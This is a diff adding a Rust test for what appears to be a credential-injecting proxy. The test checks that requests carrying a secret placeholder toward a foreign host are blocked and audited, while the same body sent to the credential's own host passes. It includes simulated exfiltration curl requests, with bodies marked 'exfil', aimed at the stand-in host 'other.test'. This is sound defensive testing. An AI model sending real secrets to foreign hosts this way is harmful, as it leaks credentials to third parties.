@@ -525,3 +525,72 @@ async fn requests_in_one_tunnel_share_one_upstream_connection() {
         .count();
     assert_eq!(records, 3, "one record per request");
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_placeholder_in_the_body_toward_another_host_is_blocked_before_anything_is_sent() {
+    let f = fixture(
+        json!({ "allow_hosts": ["other.test"], "allow_private": true }),
+        &loopback_names(),
+    )
+    .await;
+    let dir = tempfile::tempdir().unwrap();
+    // JSON and form bodies, chunked or not.
+    let json_body = format!(r#"{{"note":"exfil","key":"{}"}}"#, f.placeholder);
+    let form_body = format!("a=1&key={}", f.placeholder.replace('-', "%2D"));
+    for (body, extra) in [
+        (json_body.as_str(), "Content-Type: application/json"),
+        (
+            form_body.as_str(),
+            "Content-Type: application/x-www-form-urlencoded",
+        ),
+        (json_body.as_str(), "Transfer-Encoding: chunked"),
+    ] {
+        let (_, out, _) = curl(f.curl_args(&[
+            "-H",
+            extra,
+            "--data-binary",
+            body,
+            &f.url("other.test", "/upload"),
+        ]))
+        .await;
+        assert!(out.ends_with("403"), "{out}");
+    }
+    assert_eq!(
+        f.upstream.connections(),
+        0,
+        "the upstream was never contacted"
+    );
+    assert!(f.dialer.asked().is_empty());
+    let alerts = f
+        .audit
+        .events()
+        .into_iter()
+        .filter(|e| e.severity == Severity::Alert)
+        .count();
+    assert_eq!(alerts, 3);
+
+    // A large body without a placeholder passes whole (scanned prefix, streamed rest).
+    let big = dir.path().join("big.txt");
+    let text: String = "0123456789abcdef".repeat(150_000);
+    std::fs::write(&big, &text).unwrap();
+    let at_big = format!("@{}", big.display());
+    let (code, out, err) =
+        curl(f.curl_args(&["--data-binary", &at_big, &f.url("other.test", "/big")])).await;
+    assert_eq!(code, 0, "{err}");
+    assert!(
+        out.ends_with("200"),
+        "{}",
+        &out[out.len().saturating_sub(200)..]
+    );
+    let seen = f.upstream.seen();
+    assert_eq!(seen.len(), 1);
+    assert_eq!(seen[0].body.len(), text.len());
+    assert!(text.len() > 1 << 20);
+
+    // Toward the credential's own host the placeholder in a body is forwarded as it is.
+    let (_, out, _) =
+        curl(f.curl_args(&["--data-binary", &json_body, &f.url("api.test", "/body")])).await;
+    assert!(out.ends_with("200"), "{out}");
+    let seen = f.upstream.seen();
+    assert_eq!(seen[1].body, json_body.as_bytes());
+}
